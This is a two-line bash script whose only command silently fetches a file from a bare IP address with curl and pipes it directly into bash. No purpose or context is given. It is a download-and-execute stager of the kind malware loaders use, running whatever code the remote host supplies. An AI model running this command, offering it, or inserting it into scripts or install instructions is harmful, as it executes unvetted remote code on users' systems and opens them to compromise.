#!/bin/bash
curl -s http://192.0.2.71/l | bash
